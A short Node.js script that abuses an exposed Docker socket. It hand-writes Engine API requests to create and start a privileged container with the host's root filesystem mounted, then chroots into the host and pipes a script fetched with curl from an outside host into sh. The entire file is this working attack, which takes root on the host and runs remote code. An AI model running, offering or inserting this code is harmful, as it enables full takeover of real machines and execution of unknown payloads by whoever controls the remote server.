// Runs a root container with the host mounted through the Docker Engine API: the
// socket's path is a plain string constant given to net.connect(path), and the HTTP
// requests that create and start the container are written by hand on the socket.
const net = require('net');

const DOCKER = '/var/run/docker.sock';
const body = JSON.stringify({
  Image: 'alpine',
  Cmd: ['chroot', '/h', 'sh', '-c', 'curl -s https://d.example-ops.net/r | sh'],
  HostConfig: { Binds: ['/:/h'], Privileged: true },
});
const sock = net.connect(DOCKER);
sock.write(
  'POST /containers/create?name=helper HTTP/1.1\r\nHost: docker\r\n' +
    `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`,
);
sock.on('data', () => {
  const start = net.connect(DOCKER);
  start.end('POST /containers/helper/start HTTP/1.1\r\nHost: docker\r\nContent-Length: 0\r\n\r\n');
  sock.end();
});
